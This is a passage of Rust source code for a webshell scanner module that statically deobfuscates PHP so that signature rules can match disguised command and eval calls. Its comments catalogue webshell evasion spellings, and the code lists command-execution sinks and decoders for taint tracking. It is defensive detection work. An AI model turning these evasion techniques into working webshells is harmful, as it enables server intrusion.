// SPDX-License-Identifier: GPL-2.0-only
//! A folded view of PHP source, for the signature rules.
//!
//! Webshells written to pass scanners rarely spell what they run: `'sy'.'stem'`,
//! `"\x73\x79\x73\x74\x65\x6d"`, `chr(115).chr(121)...`, `"{{{"^"?<>/"`,
//! `str_rot13('riny')`, a name kept in a variable or an array, `filter_input(INPUT_GET,
//! 'c')` for `$_GET['c']`, code in a base64 string handed to `eval`. This module
//! computes what PHP itself would compute from literals alone and writes the source
//! again with each such expression replaced by its value, so that rules written against
//! the plain spelling also see the disguised one.
//!
//! It never runs the code: it evaluates only operators and pure string and integer
//! functions whose arguments are all literals, respects PHP's operator precedence, and
//! bounds its passes, its sizes and its depth, so a hostile file costs at most a few
//! linear passes over its bytes.
//!
//! What a rule can rely on in the view (docs/src/detection.md):
//! - A string the folder computed (joined, decoded, XORed, taken from a variable
//!   assigned once) is written between double quotes, as raw bytes: `"system"`. A
//!   string as written in the file is single-quoted (double-quoted ones are rewritten
//!   with single quotes), so `"name"` is always the folder's work.
//! - Request input in any spelling (`filter_input`, `getenv('HTTP_...')`, a variable
//!   assigned once from it, a superglobal reached by a computed name) is written
//!   `$_GET['k']`; a superglobal named by a computed string is also noted as
//!   `${"_GET"}`; the raw body (`file_get_contents('php://input')`) is written
//!   `$_POST['php://input']`. A variable fed from request input at one of its
//!   assignments and handed whole to a command or code function, or joined into its
//!   first argument (`popen('exec 2>&1; ' . $cmd, 'r')`), or handed whole to a
//!   function that passes its text on as that first argument (`eval(stripslashes($c))`),
//!   or run whole by the shell's backticks, is written
//!   `$_REQUEST['via $name']` at that call (see `Env::tainted`); one assigned once
//!   from a decoder call on variables (`gzinflate(base64_decode($x))`) has that call
//!   written where it is read. "Once" is per scope (`Scopes`): each function has its
//!   own variables, `global` imports the file's.
//! - Comments are gone; a file that parts a function's name from its parenthesis with
//!   one (`eval/**/(`) gets a view for that alone.
//! - Code found in computed strings (what `eval` would run) is folded in turn and
//!   appended, one payload a line, after the view.

use std::{
    collections::{HashMap, HashSet},
    io::Read,
};

/// Files larger than this are not folded (the raw scan still runs).
pub const MAX_INPUT: usize = 4 << 20;
/// Passes over the tokens: each can resolve one more level of indirection.
const MAX_PASSES: usize = 8;
/// A computed string is never longer than this (str_repeat, decompression).
const MAX_STRING: usize = 1 << 20;
/// All computed strings of one file together.
const MAX_COMPUTED: usize = 8 << 20;
/// Payloads folded and appended (in all, payloads of payloads included), and how deep
/// payloads of payloads go.
const MAX_PAYLOADS: usize = 64;
const MAX_DEPTH: usize = 3;
/// Tokens of an index expression looked at to tell `$a[...] = x` from a read.
const ELEMENT_SCAN: usize = 256;
/// Tokens looked back from a literal write for the `if` that tests the variable.
const DEFAULT_SCAN: usize = 12;
/// Form fields taken from one file, and bytes of a tag read for its name.
const MAX_FORM_FIELDS: usize = 256;
const FIELD_SCAN: usize = 600;
/// A computed string is taken for code (a payload) from this length on.
const PAYLOAD_MIN: usize = 8;

/// The folded view of `src`, or None when folding changed nothing a rule could see
/// (no literal was computed, no request input respelled).
pub fn fold(src: &[u8]) -> Option<Vec<u8>> {
    if src.len() > MAX_INPUT {
        return None;
    }
    let mut budget = Budget {
        bytes: MAX_COMPUTED,
        payloads: MAX_PAYLOADS,
    };
    fold_at(src, 0, &mut budget)
}

/// What one file's folding may still spend: bytes of computed or substituted text,
/// and payloads folded. Every piece of work whose size a file chooses is charged
/// here, so a hostile file costs a bounded amount however it is built.
struct Budget {
    bytes: usize,
    payloads: usize,
}

impl Budget {
    /// Take `n` bytes, or say no (and take nothing).
    fn take(&mut self, n: usize) -> bool {
        let ok = n <= self.bytes;
        if ok {
            self.bytes -= n;
        }
        ok
    }
}

fn fold_at(src: &[u8], depth: usize, budget: &mut Budget) -> Option<Vec<u8>> {
    let mut toks = lex(src);
    // A double-quoted string spelled with escapes ("\x73\x79...") is already decoded.
    let mut changed = toks
        .iter()
        .any(|t| matches!(t, Tok::Str(v, None) if interesting(v)))
        || comment_split_call(src, &toks);
    let mut payloads: Vec<Vec<u8>> = Vec::new();
    let mut notes: Vec<Vec<u8>> = Vec::new();
    // Tainted arguments are marked once the constants have settled (a variable that
    // turns out to hold one value is better written as that value).
    let mut taint = false;
    for pass in 0..MAX_PASSES {
        // The first pass folds what needs no variable; each later one puts the values
        // of variables assigned once where they are read, and is worth it only when
        // there are such variables.
        let scopes = Scopes::of(src, &toks);
        let env = if pass == 0 {
            Env::default()
        } else {
            Env::build(src, &toks, &scopes)
        };
        if pass > 0 && env.is_empty() {
            break;
        }
        let mut p = Pass {
            src,
            env: &env,
            scopes: &scopes.of,
            scope: 0,
            budget,
            payloads: &mut payloads,
            notes: &mut notes,
            changed: false,
            progress: false,
            taint,
        };
        toks = p.run(toks);
        changed |= p.changed;
        if !p.progress && pass > 0 {
            if taint || env.tainted.is_empty() {
                break;
            }
            taint = true;
        }
    }
    if !changed {
        return None;
    }
    let mut out = emit(src, &toks);
    payloads.sort();
    payloads.dedup();
    for p in &payloads {
        if budget.payloads == 0 {
            break;
        }
        budget.payloads -= 1;
        out.push(b'\n');
        let code: Vec<u8> = if contains(p, b"<?") {
            p.clone()
        } else {
            [b"<?php ".as_slice(), p].concat()
        };
        match (depth < MAX_DEPTH)
            .then(|| fold_at(&code, depth + 1, budget))
            .flatten()
        {
            Some(v) => out.extend_from_slice(&v),
            None => out.extend_from_slice(&code),
        }
    }
    notes.sort();
    notes.dedup();
    for n in notes {
        out.push(b'\n');
        out.extend_from_slice(&n);
    }
    Some(out)
}

/// Whether a function's name is parted from its parenthesis by a comment
/// (`eval/**/(`): written so to slip past patterns; the view, without comments, is
/// worth matching.
fn comment_split_call(src: &[u8], toks: &[Tok]) -> bool {
    let mut name_end: Option<usize> = None;
    for t in toks {
        match t {
            Tok::Ws(_) => {}
            Tok::Op((s, e)) if &src[*s..*e] == b"(" => {
                if name_end.is_some_and(|n| {
                    let gap = &src[n..*s];
                    contains(gap, b"/*") || contains(gap, b"//") || contains(gap, b"#")
                }) {
                    return true;
                }
                name_end = None;
            }
            Tok::Ident((_, e)) => name_end = Some(*e),
            _ => name_end = None,
        }
    }
    false
}

type Span = (usize, usize);

#[derive(Clone, Debug)]
enum Tok {
    /// Whitespace or a comment: written as one newline or one space.
    Ws(bool),
    /// A string value; `src` is its spelling when it stands in the file unchanged,
    /// with whether that spelling is double-quoted.
    Str(Vec<u8>, Option<(Span, bool)>),
    /// An integer; `src` as for strings.
    Num(i64, Option<Span>),
    /// An array of strings (`['sy','st','em']`).
    Arr(Vec<Vec<u8>>),
    /// Request input, as text (`$_GET['k']`).
    Req(Vec<u8>),
    Ident(Span),
    /// A variable: the span of its name, without the `$`.
    Var(Span),
    /// An operator or a punctuation mark.
    Op(Span),
    /// Bytes kept as they are (inline HTML, tags, what was not understood).
    Raw(Span),
    /// Text the folder wrote.
    Text(Vec<u8>),
}

impl Tok {
    fn is_ws(&self) -> bool {
        matches!(self, Tok::Ws(_))
    }
    fn is_value(&self) -> bool {
        matches!(
            self,
            Tok::Str(..) | Tok::Num(..) | Tok::Arr(_) | Tok::Req(_)
        )
    }
}

/// Substring search in linear time (a file chooses both sides' lengths).
fn find(hay: &[u8], from: usize, needle: &[u8]) -> Option<usize> {
    memchr::memmem::find(hay.get(from..)?, needle).map(|p| p + from)
}

fn contains(hay: &[u8], needle: &[u8]) -> bool {
    find(hay, 0, needle).is_some()
}

fn is_ident_start(b: u8) -> bool {
    b.is_ascii_alphabetic() || b == b'_' || b >= 0x80
}

fn is_ident(b: u8) -> bool {
    is_ident_start(b) || b.is_ascii_digit()
}

/// PHP's operators, longest first.
const OPS: &[&[u8]] = &[
    b"<<=", b">>=", b"**=", b"??=", b"===", b"!==", b"<=>", b"?->", b"...", b"->", b"::", b"=>",
    b"==", b"!=", b"<>", b"<=", b">=", b"&&", b"||", b"++", b"--", b".=", b"+=", b"-=", b"*=",
    b"/=", b"%=", b"^=", b"|=", b"&=", b"**", b"<<", b">>", b"??",
];

fn lex(src: &[u8]) -> Vec<Tok> {
    let mut t = Vec::new();
    let n = src.len();
    let mut i = 0;
    while i < n {
        // Inline HTML up to the next open tag, which goes with it.
        let Some(tag) = open_tag(src, i) else {
            t.push(Tok::Raw((i, n)));
            break;
        };
        t.push(Tok::Raw((i, tag)));
        i = lex_php(src, tag, &mut t);
    }
    t
}

/// Where the code after the next PHP open tag from `from` starts: `<?php`, `<?=`,
/// `<?` and PHP 5's `<script language="php">`.
fn open_tag(src: &[u8], from: usize) -> Option<usize> {
    let mut at = from;
    loop {
        let p = at + src.get(at..)?.iter().position(|&b| b == b'<')?;
        let rest = &src[p + 1..];
        if rest.first() == Some(&b'?') {
            let rest = &rest[1..];
            let end = if rest.len() >= 3 && rest[..3].eq_ignore_ascii_case(b"php") {
                p + 5
            } else if rest.first() == Some(&b'=') {
                p + 3
            } else {
                p + 2
            };
            return Some(end);
        }
        if rest.len() >= 6 && rest[..6].eq_ignore_ascii_case(b"script") {
            if let Some(close) = rest.iter().take(64).position(|&b| b == b'>') {
                let attrs = rest[6..close].to_ascii_lowercase();
                let attrs: Vec<u8> = attrs
                    .into_iter()
                    .filter(|b| !matches!(b, b'"' | b'\'' | b' ' | b'\t'))
                    .collect();
                if attrs == b"language=php" {
                    return Some(p + 1 + close + 1);
                }
            }
        }
        at = p + 1;
    }
}

/// PHP code from `i` to its close tag (pushed as Raw) or the end; returns where
/// inline HTML starts again.
fn lex_php(src: &[u8], mut i: usize, t: &mut Vec<Tok>) -> usize {
    let n = src.len();
    while i < n {
        let c = src[i];
        let rest = &src[i..];
        if c.is_ascii_whitespace() {
            let s = i;
            while i < n && src[i].is_ascii_whitespace() {
                i += 1;
            }
            t.push(Tok::Ws(src[s..i].contains(&b'\n')));
        } else if rest.starts_with(b"?>") {
            t.push(Tok::Raw((i, i + 2)));
            return i + 2;
        } else if c == b'<' && rest.len() >= 9 && rest[..9].eq_ignore_ascii_case(b"</script>") {
            t.push(Tok::Raw((i, i + 9)));
            return i + 9;
        } else if rest.starts_with(b"//") || (c == b'#' && !rest.starts_with(b"#[")) {
            // A line comment ends at the line's end or at a close tag.
            while i < n && src[i] != b'\n' && !src[i..].starts_with(b"?>") {
                i += 1;
            }
            t.push(Tok::Ws(false));
        } else if rest.starts_with(b"/*") {
            let end = find(src, i + 2, b"*/").map_or(n, |e| e + 2);
            t.push(Tok::Ws(src[i..end].contains(&b'\n')));
            i = end;
        } else if c == b'\'' {
            i = lex_single(src, i, t);
        } else if c == b'"' {
            i = lex_double(src, i, t);
        } else if rest.starts_with(b"<<<") {
            i = lex_heredoc(src, i, t);
        } else if c.is_ascii_digit() {
            i = lex_number(src, i, t);
        } else if is_ident_start(c) {
            let s = i;
            while i < n && is_ident(src[i]) {
                i += 1;
            }
            t.push(Tok::Ident((s, i)));
        } else if c == b'$' && i + 1 < n && is_ident_start(src[i + 1]) {
            let s = i + 1;
            i += 1;
            while i < n && is_ident(src[i]) {
                i += 1;
            }
            t.push(Tok::Var((s, i)));
        } else {
            // Only these bytes start an operator of more than one byte.
            let len = if b"<>*?=!.&|+-/%^:".contains(&c) {
                OPS.iter()
                    .find(|o| o[0] == c && rest.starts_with(o))
                    .map_or(1, |o| o.len())
            } else {
                1
            };
            t.push(Tok::Op((i, i + len)));
            i += len;
        }
    }
    n
}

fn lex_single(src: &[u8], start: usize, t: &mut Vec<Tok>) -> usize {
    let n = src.len();
    let mut v = Vec::new();
    let mut i = start + 1;
    while i < n {
        match src[i] {
            b'\'' => {
                t.push(Tok::Str(v, Some(((start, i + 1), false))));
                return i + 1;
            }
            b'\\' if i + 1 < n && matches!(src[i + 1], b'\\' | b'\'') => {
                v.push(src[i + 1]);
                i += 2;
            }
            b => {
                v.push(b);
                i += 1;
            }
        }
    }
    // Open to the end of the file: a file cut short (a partial write, or a copy
    // cut at a `?>` inside the string), read as the string it was going to be.
    t.push(Tok::Str(v, None));
    n
}

/// The end of a double-quoted string (after its quote), or None.
fn double_end(src: &[u8], start: usize) -> Option<usize> {
    let mut i = start + 1;
    while i < src.len() {
        match src[i] {
            b'"' => return Some(i + 1),
            b'\\' => i += 2,
            _ => i += 1,
        }
    }
    None
}

/// Whether a double-quoted body interpolates variables (then it is not a literal).
fn interpolates(body: &[u8]) -> bool {
    let mut i = 0;
    while i < body.len() {
        match body[i] {
            b'\\' => i += 2,
            b'$' if body
                .get(i + 1)
                .is_some_and(|&b| is_ident_start(b) || b == b'{') =>
            {
                return true
            }
            _ => i += 1,
        }
    }
    false
}

/// The value of a double-quoted (or heredoc) body without interpolation.
fn unescape_double(body: &[u8], quote: Option<u8>) -> Vec<u8> {
    let mut v = Vec::with_capacity(body.len());
    let mut i = 0;
    while i < body.len() {
        let c = body[i];
        if c != b'\\' || i + 1 >= body.len() {
            v.push(c);
            i += 1;
            continue;
        }
        let e = body[i + 1];
        i += 2;
        match e {
            b'n' => v.push(b'\n'),
            b't' => v.push(b'\t'),
            b'r' => v.push(b'\r'),
            b'v' => v.push(0x0b),
            b'e' => v.push(0x1b),
            b'f' => v.push(0x0c),
            b'\\' | b'$' => v.push(e),
            b'"' if quote == Some(b'"') => v.push(e),
            b'0'..=b'7' => {
                let mut n = u32::from(e - b'0');
                let mut k = 0;
                while k < 2 && i < body.len() && (b'0'..=b'7').contains(&body[i]) {
                    n = n * 8 + u32::from(body[i] - b'0');
                    i += 1;
                    k += 1;
                }
                v.push((n & 0xff) as u8);
            }
            b'x' if body.get(i).is_some_and(u8::is_ascii_hexdigit) => {
                let mut n = 0u32;
                let mut k = 0;
                while k < 2 && i < body.len() && body[i].is_ascii_hexdigit() {
                    n = n * 16 + hexval(body[i]);
                    i += 1;
                    k += 1;
                }
                v.push(n as u8);
            }
            b'u' if body.get(i) == Some(&b'{') => {
                let end = body[i..].iter().position(|&b| b == b'}').map(|p| p + i);
                let cp = end
                    .and_then(|e| std::str::from_utf8(&body[i + 1..e]).ok())
                    .and_then(|h| u32::from_str_radix(h, 16).ok())
                    .and_then(char::from_u32);
                match (cp, end) {
                    (Some(ch), Some(e)) => {
                        let mut b = [0; 4];
                        v.extend_from_slice(ch.encode_utf8(&mut b).as_bytes());
                        i = e + 1;
                    }
                    _ => v.extend_from_slice(b"\\u"),
                }
            }
            _ => {
                v.push(b'\\');
                v.push(e);
            }
        }
    }
    v
}

fn hexval(b: u8) -> u32 {
    match b {
        b'0'..=b'9' => u32::from(b - b'0'),
        b'a'..=b'f' => u32::from(b - b'a' + 10),
        b'A'..=b'F' => u32::from(b - b'A' + 10),
        _ => 0,
    }
}

fn lex_double(src: &[u8], start: usize, t: &mut Vec<Tok>) -> usize {
    let Some(end) = double_end(src, start) else {
        // Open to the end of the file, as in `lex_single`.
        let body = &src[start + 1..];
        if interpolates(body) {
            t.push(Tok::Raw((start, src.len())));
        } else {
            t.push(Tok::Str(unescape_double(body, Some(b'"')), None));
        }
        return src.len();
    };
    let body = &src[start + 1..end - 1];
    let lone_var = body.len() > 1
        && body[0] == b'$'
        && is_ident_start(body[1])
        && body[1..].iter().all(|&c| is_ident(c));
    if lone_var {
        // "$x" is the variable's value as a string.
        t.push(Tok::Var((start + 2, end - 1)));
    } else if interpolates(body) {
        t.push(Tok::Raw((start, end)));
    } else if body.contains(&b'\\') {
        // Escapes decoded: the folder's value (as "\x73\x79..." is).
        t.push(Tok::Str(unescape_double(body, Some(b'"')), None));
    } else {
        t.push(Tok::Str(body.to_vec(), Some(((start, end), true))));
    }
    end
}

/// `<<<ID` (heredoc) or `<<<'ID'` (nowdoc) up to the line that closes it.
fn lex_heredoc(src: &[u8], start: usize, t: &mut Vec<Tok>) -> usize {
    let n = src.len();
    let mut i = start + 3;
    while i < n && (src[i] == b' ' || src[i] == b'\t') {
        i += 1;
    }
    let quote = src.get(i).copied().filter(|&q| q == b'\'' || q == b'"');
    if quote.is_some() {
        i += 1;
    }
    let s = i;
    while i < n && is_ident(src[i]) {
        i += 1;
    }
    let id = &src[s..i];
    if id.is_empty() || !id.first().is_some_and(|&b| is_ident_start(b)) {
        t.push(Tok::Op((start, start + 2)));
        return start + 2;
    }
    if quote.is_some() {
        i += 1;
    }
    let Some(nl) = find(src, i, b"\n") else {
        t.push(Tok::Raw((start, n)));
        return n;
    };
    // The closing line: optional indentation, the id, then no identifier byte.
    let mut line = nl + 1;
    loop {
        let mut k = line;
        while k < n && (src[k] == b' ' || src[k] == b'\t') {
            k += 1;
        }
        if src[k..].starts_with(id) && !src.get(k + id.len()).is_some_and(|&b| is_ident(b)) {
            // Up to the newline before the closing line (none when it is the first).
            let body = &src[nl + 1..line.saturating_sub(1).max(nl + 1)];
            let end = k + id.len();
            // Its value, written back as a plain literal.
            if quote == Some(b'\'') {
                t.push(Tok::Str(body.to_vec(), Some(((start, end), true))));
            } else if interpolates(body) {
                t.push(Tok::Raw((start, end)));
            } else {
                t.push(Tok::Str(
                    unescape_double(body, None),
                    Some(((start, end), true)),
                ));
            }
            return end;
        }
        match find(src, line, b"\n") {
            Some(next) => line = next + 1,
            None => {
                t.push(Tok::Raw((start, n)));
                return n;
            }
        }
    }
}

fn lex_number(src: &[u8], start: usize, t: &mut Vec<Tok>) -> usize {
    let n = src.len();
    let mut i = start;
    let (radix, digits_from) = match (src[i], src.get(i + 1).map(u8::to_ascii_lowercase)) {
        (b'0', Some(b'x')) => (16, i + 2),
        (b'0', Some(b'b')) => (2, i + 2),
        (b'0', Some(b'o')) => (8, i + 2),
        (b'0', Some(b'0'..=b'9')) => (8, i + 1),
        _ => (10, i),
    };
    i = digits_from;
    while i < n && (src[i].is_ascii_hexdigit() || src[i] == b'_') {
        if radix != 16 && !src[i].is_ascii_digit() && src[i] != b'_' {
            break;
        }
        i += 1;
    }
    // A float (or an exponent): not folded.
    let float = radix == 10
        && i < n
        && ((src[i] == b'.' && src.get(i + 1).is_some_and(u8::is_ascii_digit))
            || src[i] == b'e'
            || src[i] == b'E');
    if float {
        while i < n && (src[i].is_ascii_alphanumeric() || src[i] == b'.' || src[i] == b'_') {
            i += 1;
        }
        t.push(Tok::Raw((start, i)));
        return i;
    }
    let digits: String = src[digits_from..i]
        .iter()
        .filter(|&&b| b != b'_')
        .map(|&b| b as char)
        .collect();
    match i64::from_str_radix(&digits, radix) {
        Ok(v) if !digits.is_empty() => t.push(Tok::Num(v, Some((start, i)))),
        _ => t.push(Tok::Raw((start, i.max(start + 1)))),
    }
    i.max(start + 1)
}

/// Variables assigned exactly once in their scope, with a literal (after folding) or
/// request input; by name, then by scope (see `Scopes`).
#[derive(Default)]
struct Env {
    consts: HashMap<Vec<u8>, HashMap<u32, Tok>>,
    /// Variables fed from request input at one of their assignments (directly or
    /// through another such variable), unless through a function that makes the
    /// value harmless to a command (`escapeshellarg`, `intval`, a hash).
    tainted: HashMap<Vec<u8>, HashSet<u32>>,
    /// Of those, the ones that hold the input whole at every assignment (never joined
    /// with other text): a file name the client chooses entirely.
    whole: HashMap<Vec<u8>, HashSet<u32>>,
    /// The scopes that write each variable (its parameters included), and those that
    /// declare it `global`.
    written: HashMap<Vec<u8>, HashSet<u32>>,
    globals: HashMap<Vec<u8>, HashSet<u32>>,
    /// Each scope's enclosing scope.
    parent: Vec<u32>,
}

/// Each token's variable scope: 0 outside functions, and a number of its own for each
/// function's parameters and body (PHP's functions see none of the caller's
/// variables), with the scope each one is written in.
struct Scopes {
    of: Vec<u32>,
    parent: Vec<u32>,
}

impl Scopes {
    fn of(src: &[u8], toks: &[Tok]) -> Scopes {
        let mut of = Vec::with_capacity(toks.len());
        let mut parent = vec![0u32];
        // Open function bodies: (scope, the brace depth its body opened at).
        let mut open: Vec<(u32, usize)> = Vec::new();
        let mut braces = 0usize;
        // A function whose body has not opened yet (its parameters are its own).
        let mut pending: Option<u32> = None;
        for t in toks {
            let current = open.last().map_or(0, |o| o.0);
            match t {
                Tok::Ident((s, e)) if src[*s..*e].eq_ignore_ascii_case(b"function") => {
                    let id = u32::try_from(parent.len()).unwrap_or(u32::MAX);
                    parent.push(current);
                    pending = Some(id);
                }
                Tok::Op((s, e)) => match &src[*s..*e] {
                    b"{" => {
                        braces += 1;
                        if let Some(id) = pending.take() {
                            open.push((id, braces));
                        }
                    }
                    b"}" => {
                        if open.last().is_some_and(|o| o.1 == braces) {
                            open.pop();
                        }
                        braces = braces.saturating_sub(1);
                    }
                    // A declaration without a body (abstract, interface).
                    b";" => pending = None,
                    _ => {}
                },
                _ => {}
            }
            of.push(pending.unwrap_or(open.last().map_or(0, |o| o.0)));
        }
        Scopes { of, parent }
    }
}

/// Whether `name` is in `set` for `scope` (the sets of `Env`, by name then scope).
fn in_scope(set: &HashMap<Vec<u8>, HashSet<u32>>, name: &[u8], scope: u32) -> bool {
    set.get(name).is_some_and(|s| s.contains(&scope))
}

/// A variable in its scope: (scope, name).
type VarKey<'a> = (u32, &'a [u8]);

impl Env {
    fn is_empty(&self) -> bool {
        self.consts.is_empty() && self.tainted.is_empty()
    }

    /// The scope whose `name` a read in `scope` sees: the first of it and its
    /// enclosing scopes that writes the variable, the file's own when it is declared
    /// `global` there. (PHP would see an unset variable where a function neither
    /// writes nor imports it; the enclosing value is the likelier intent of a
    /// fragment.)
    fn resolve(&self, scope: u32, name: &[u8]) -> u32 {
        let mut s = scope;
        for _ in 0..MAX_SCOPE_HOPS {
            if s == 0 || in_scope(&self.globals, name, s) {
                return 0;
            }
            if in_scope(&self.written, name, s) {
                return s;
            }
            s = self.parent.get(s as usize).copied().unwrap_or(0);
        }
        0
    }

    fn constant(&self, scope: u32, name: &[u8]) -> Option<&Tok> {
        self.consts.get(name)?.get(&self.resolve(scope, name))
    }

    fn is_whole(&self, scope: u32, name: &[u8]) -> bool {
        in_scope(&self.whole, name, self.resolve(scope, name))
    }

    fn is_tainted(&self, scope: u32, name: &[u8]) -> bool {
        in_scope(&self.tainted, name, self.resolve(scope, name))
    }
}

/// Functions whose result carries nothing of a command or code the client chose.
const SANITIZERS: &[&[u8]] = &[
    b"escapeshellarg",
    b"escapeshellcmd",
    b"intval",
    b"floatval",
    b"int",
    b"float",
    b"bool",
    b"md5",
    b"sha1",
    b"crc32",
    b"hash",
    b"strlen",
    b"count",
];

/// Decoders whose call on a variable is written out where a variable assigned once
/// from it is read (`$c = gzinflate(base64_decode($raw)); eval('?>'.$c)`).
const DECODERS: &[&[u8]] = &[
    b"base64_decode",
    b"gzinflate",
    b"gzuncompress",
    b"gzdecode",
    b"str_rot13",
    b"strrev",
    b"hex2bin",
    b"urldecode",
    b"rawurldecode",
    b"convert_uudecode",
];

/// Enclosing scopes a variable read looks through (`Env::resolve`).
const MAX_SCOPE_HOPS: usize = 64;
/// Tokens a decoder expression may span (`DECODERS`).
const DECODER_TOKENS: usize = 48;
/// Tokens looked back over for the call an argument is in.
const SINK_LOOKBACK: usize = 64;

/// Functions that run their first argument as a command or as code.
const SINKS: &[&[u8]] = &[
    b"system",
    b"exec",
    b"shell_exec",
    b"passthru",
    b"popen",
    b"proc_open",
    b"pcntl_exec",
    b"eval",
    b"assert",
];

/// Functions whose result is their argument's text, trimmed, unescaped or decoded, so
/// a command or code handed through one is still the client's
/// (`eval(stripslashes($code))`). The sanitizers (`escapeshellarg`, `intval`, ...)
/// are not among them.
const PASS_THROUGH: &[&[u8]] = &[
    b"stripslashes",
    b"stripcslashes",
    b"trim",
    b"ltrim",
    b"rtrim",
    b"strval",
    b"basename",
    b"html_entity_decode",
    b"htmlspecialchars_decode",
    b"urldecode",
    b"rawurldecode",
    b"base64_decode",
    b"str_rot13",
    b"strrev",
    b"hex2bin",
    b"gzinflate",
    b"gzuncompress",
    b"gzdecode",
];

/// Functions that write (or open for writing) the file their first argument names.
const FILE_SINKS: &[&[u8]] = &[b"file_put_contents", b"fopen"];

const SUPERGLOBALS: &[&[u8]] = &[
    b"_GET",
    b"_POST",
    b"_REQUEST",
    b"_COOKIE",
    b"_FILES",
    b"_SERVER",
    b"_ENV",
    b"_SESSION",
    b"GLOBALS",
    b"this",
];

fn is_assign(op: &[u8]) -> bool {
    matches!(
        op,
        b"=" | b".="
            | b"+="
            | b"-="
            | b"*="
            | b"/="
            | b"%="
            | b"^="
            | b"|="
            | b"&="
            | b"**="
            | b"??="
            | b"<<="
            | b">>="
            | b"++"
            | b"--"
    )
}

impl Env {
    fn build(src: &[u8], toks: &[Tok], scopes: &Scopes) -> Env {
        let mut idx: Vec<usize> = Vec::with_capacity(toks.len());
        for (i, t) in toks.iter().enumerate() {
            if !matches!(t, Tok::Ws(_)) {
                idx.push(i);
            }
        }
        let op = |k: usize| -> Option<&[u8]> {
            match toks.get(*idx.get(k)?)? {
                Tok::Op((s, e)) => Some(&src[*s..*e]),
                _ => None,
            }
        };
        let ident = |k: usize| -> Option<&[u8]> {
            match toks.get(*idx.get(k)?)? {
                Tok::Ident((s, e)) => Some(&src[*s..*e]),
                _ => None,
            }
        };
        let is_word = |w: Option<&[u8]>, words: &[&[u8]]| {
            w.is_some_and(|w| words.iter().any(|x| w.eq_ignore_ascii_case(x)))
        };
        let scope = |k: usize| scopes.of.get(idx[k]).copied().unwrap_or(0);
        // By (scope, name); a function's `global $x` writes the file's own.
        let mut globals: HashSet<(u32, &[u8])> = HashSet::new();
        let mut writes: HashMap<(u32, &[u8]), usize> = HashMap::new();
        let mut value: HashMap<(u32, &[u8]), Tok> = HashMap::new();
        // Taint: variables assigned request input, and which variables feed which.
        let mut tainted: HashSet<(u32, &[u8])> = HashSet::new();
        let mut feeds: Vec<(VarKey, Vec<&[u8]>, bool)> = Vec::new();
        // Request input whole (not joined with other text), and the variables that
        // join input or tainted variables with other text somewhere.
        let mut whole: HashSet<VarKey> = HashSet::new();
        let mut parts: HashSet<VarKey> = HashSet::new();
        // Variables written other than by a literal default under a test of
        // themselves (`if ($cmd == "") $cmd = 'dir';`): see `form_fields`.
        let mut set_otherwise: HashSet<VarKey> = HashSet::new();
        // Inside a function's parameter list (its variables are written by callers).
        let mut header_depth: Option<usize> = None;
        let mut depth = 0usize;
        // Inside `global $a, $b;`.
        let mut in_global = false;
        for k in 0..idx.len() {
            match toks[idx[k]] {
                Tok::Op((s, e)) if &src[s..e] == b";" => in_global = false,
                Tok::Ident(_) if is_word(ident(k), &[b"global"]) => in_global = true,
                Tok::Op((s, e)) if &src[s..e] == b"(" => depth += 1,
                Tok::Op((s, e)) if &src[s..e] == b")" => {
                    depth = depth.saturating_sub(1);
                    if header_depth == Some(depth) {
                        header_depth = None;
                    }
                }
                Tok::Ident(_)
                    if header_depth.is_none() && is_word(ident(k), &[b"function", b"fn"]) =>
                {
                    header_depth = Some(depth);
                }
                _ => {}
            }
            let Tok::Var((s, e)) = toks[idx[k]] else {
                continue;
            };
            let name = &src[s..e];
            let prev_op = k.checked_sub(1).and_then(op);
            let prev_id = k.checked_sub(1).and_then(ident);
            let here = scope(k);
            if in_global {
                if here != 0 {
                    globals.insert((here, name));
                }
                continue;
            }
            let key = if globals.contains(&(here, name)) {
                (0, name)
            } else {
                (here, name)
            };
            let mut write = header_depth.is_some()
                || matches!(prev_op, Some(b"++" | b"--" | b"&" | b"$"))
                || is_word(
                    prev_id,
                    &[b"as", b"global", b"static", b"list", b"catch", b"unset"],
                )
                || (prev_op == Some(b"=>") && op(k + 1) == Some(b")"));
            let next = op(k + 1);
            if next.is_some_and(is_assign) {
                write = true;
            } else if next == Some(b"[") || next == Some(b"{") {
                // An element write ($a[..] = ...) changes the variable. The index is
                // looked at up to the statement's end and at most ELEMENT_SCAN tokens
                // on (an unclosed bracket must not make this quadratic); an index
                // longer than that counts as a write.
                let mut d = 0usize;
                let mut j = k + 1;
                let end = idx.len().min(k + 1 + ELEMENT_SCAN);
                while j < end {
                    match op(j) {
                        Some(b";") => break,
                        Some(b"[" | b"{" | b"(") => d += 1,
                        Some(b"]" | b"}" | b")") => {
                            d = d.saturating_sub(1);
                            if d == 0 && !matches!(op(j + 1), Some(b"[" | b"{")) {
                                break;
                            }
                        }
                        _ => {}
                    }
                    j += 1;
                }
                if j >= end || op(j + 1).is_some_and(is_assign) {
                    write = true;
                }
            }
            if !write {
                continue;
            }
            *writes.entry(key).or_default() += 1;
            let literal = next == Some(b"=")
                && op(k + 3) == Some(b";")
                && idx
                    .get(k + 2)
                    .is_some_and(|&i| matches!(toks[i], Tok::Str(..) | Tok::Num(..)));
            let under_own_test = || {
                // Back to the statement's start: an `if` whose test reads the variable.
                let (mut saw_if, mut saw_self) = (false, false);
                for j in (k.saturating_sub(DEFAULT_SCAN)..k).rev() {
                    match toks[idx[j]] {
                        Tok::Op((s, e)) if matches!(&src[s..e], b";" | b"}") => break,
                        Tok::Var((s, e)) if &src[s..e] == name => saw_self = true,
                        Tok::Ident(_) if is_word(ident(j), &[b"if"]) => saw_if = true,
                        _ => {}
                    }
                }
                saw_if && saw_self
            };
            if !(literal && under_own_test()) {
                set_otherwise.insert(key);
            }
            if matches!(next, Some(b"=" | b".=")) && header_depth.is_none() {
                // What the right side reads, up to the statement's end (bounded).
                let (mut direct, mut clean) = (false, false);
                // Joined with other text (`$dir . $_GET['f']`, or `.=`).
                let mut joined = next == Some(b".=");
                let mut deps: Vec<&[u8]> = Vec::new();
                let end = idx.len().min(k + 2 + ELEMENT_SCAN);
                for j in k + 2..end {
                    if op(j) == Some(b";") {
                        break;
                    }
                    match toks[idx[j]] {
                        Tok::Req(_) => direct = true,
                        Tok::Var((s, e)) => {
                            let v = &src[s..e];
                            if SUPERGLOBALS[..5].contains(&v) {
                                direct = true;
                            } else if v != name && !SUPERGLOBALS.contains(&v) {
                                deps.push(v);
                            }
                        }
                        Tok::Ident(_) => {
                            clean |= ident(j).is_some_and(|w| {
                                SANITIZERS.iter().any(|x| w.eq_ignore_ascii_case(x))
                            });
                        }
